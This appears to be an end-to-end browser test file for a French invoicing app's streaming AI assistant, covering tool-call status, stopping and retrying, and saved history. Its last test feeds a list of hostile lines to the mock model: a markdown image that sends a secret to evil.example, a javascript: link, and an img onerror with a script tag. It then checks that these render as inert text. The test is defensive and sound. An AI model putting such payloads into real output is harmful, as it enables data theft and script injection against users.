import type { ServerResponse } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { issuedInvoice } from "../issued-invoice.ts";
import type { ModelServer } from "../model-server.ts";
import { allowModel, modelServer, streamedAnswer } from "../model-server.ts";
import type { Person } from "../test-app.ts";
import type { Site, Size } from "./site.ts";
import { openSite } from "./site.ts";

// The answer of a model that comes word by word, in a real browser: what is looked up, a stop, hostile words.

let site: Site;
let model: ModelServer;
let upstream: ServerResponse[] = [];
beforeAll(async () => {
  model = await modelServer();
  site = await openSite({ env: model.env });
});
beforeEach(() => {
  upstream = [];
  model.say = (_asks, response) => void upstream.push(response);
});
afterEach(() => site.leaveAll());
afterAll(async () => {
  await site?.close();
  model?.close();
});

const QUESTION = "raconte-moi ce projet";

/** Asks a question on the assistant's page of a new owner who lets the model answer. */
async function ask(name: string, size: Size = "phone") {
  const owner = await site.product.signUp(`streaming-${name}@example.org`);
  const projectId = (await issuedInvoice(owner, "Chiffrée")).project_id;
  await allowModel(owner);
  const visit = await site.visitAs(owner, size);
  await visit.page.goto("/app");
  await send(visit.page, QUESTION);
  return { ...visit, owner, projectId, log: visit.page.getByRole("log") };
}

async function send(page: Page, question: string) {
  const field = page.getByLabel("Message à l'assistant");
  await field.fill(question);
  await field.press("Enter");
}

const nextUpstream = async (count = 1) => {
  await expect.poll(() => upstream.length).toBe(count);
  return streamedAnswer(upstream[count - 1]!);
};

async function storedConversation(owner: Person) {
  const { session } = (await owner.call("GET", "/api/assistant/session")).json;
  return { version: session.version, contents: session.history.map(({ content }: { content: string }) => content) };
}

test("words and what is looked up show as they come", { timeout: 120_000 }, async () => {
  const { page, log, look, faults, projectId, owner } = await ask("words", "phone");
  await page.getByText("L'assistant écrit…").waitFor();
  (await nextUpstream()).callTool("project_money", { project_id: projectId });
  await page.getByRole("status").getByText("Je cherche dans tes projets…").waitFor();
  const answer = await nextUpstream(2);
  answer.words("Il est facturé 120 €. Le détail est dans [tes fac");
  const words = log.getByText("Il est facturé 120 €. Le détail est dans", { exact: true });
  await words.waitFor();
  expect(await page.getByText("Je cherche dans tes projets…").count()).toBe(0);
  // Screen readers read the whole message that replaces these words.
  expect(await words.locator("xpath=ancestor::*[@aria-live][1]").getAttribute("aria-live")).toBe("off");
  await page.getByRole("button", { name: "Arrêter" }).waitFor();
  await look("assistant-streaming");
  answer.words("tures](/app/invoices).");
  answer.end();
  await page.getByRole("button", { name: "Envoyer" }).waitFor();
  expect(await log.locator("[aria-live=off]").count()).toBe(0);
  expect(await log.getByRole("link", { name: "tes factures" }).getAttribute("href")).toBe("/app/invoices");
  await look("assistant-streamed");
  expect((await storedConversation(owner)).contents).toHaveLength(2);
  expect(faults).toEqual([]);
});

test("a stop closes the model's connection and keeps what came", async () => {
  const { page, log, owner } = await ask("stop", "phone");
  const saves: string[] = [];
  page.on("request", (request) => void (request.method() === "PUT" && saves.push(request.url())));
  (await nextUpstream()).words("Il était une fois");
  await log.getByText("Il était une fois").waitFor();
  expect(upstream[0]!.destroyed).toBe(false);
  await page.getByRole("button", { name: "Arrêter" }).click();
  await expect.poll(() => upstream[0]!.destroyed).toBe(true);
  await log.getByText("Il était une fois").waitFor();
  await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute("role"))).toBe("log");
  await expect.poll(() => storedConversation(owner)).toEqual({ version: 1, contents: [QUESTION, "Il était une fois"] });
  expect(saves).toEqual([]);
  await log.getByRole("button", { name: "Réessayer" }).click();
  const answer = await nextUpstream(2);
  answer.words("Voilà.");
  answer.end();
  await log.getByText("Voilà.").waitFor();
  await expect
    .poll(() => storedConversation(owner))
    .toEqual({ version: 2, contents: [QUESTION, "Il était une fois", QUESTION, "Voilà."] });
  expect(saves).toEqual([]);
});

const HOSTILE_LINES = [
  "![logo](https://evil.example/x.png?d=secret)",
  "[payer ici](https://evil.example/pay)",
  "[payer là](//evil/pay)",
  "[ouvrir](javascript:alert)",
  "[perdu](/nulle/part)",
  "[sortir](/api/export)",
  '<img src="https://evil.example/y.png" onerror="document.title=1"><script>document.title=2</script>',
  "<a href='https://evil.example'>gagné</a>",
];

test("a model writes nothing but text with links to our own screens", async () => {
  const { page, log } = await ask("hostile", "desktop");
  const requestedAddresses: string[] = [];
  page.on("request", (request) => requestedAddresses.push(request.url()));
  const expectText = async () => {
    expect(await log.locator("img, script, iframe, form, style").count()).toBe(0);
    const text = (await log.innerText()).replaceAll("\u00a0", " ");
    for (const line of HOSTILE_LINES) expect(text).toContain(line);
    const links = log.getByRole("link");
    expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(["/app/invoices"]);
  };
  const answer = await nextUpstream();
  for (const line of [...HOSTILE_LINES, "[tes factures](/app/invoices)"]) answer.words(`${line}\n`);
  await log.getByRole("link", { name: "tes factures" }).waitFor();
  // While the words come, then once all have come.
  await expectText();
  answer.end();
  await page.getByRole("button", { name: "Envoyer" }).waitFor();
  await expectText();
  expect(requestedAddresses.filter((address) => !address.startsWith(site.address))).toEqual([]);
});
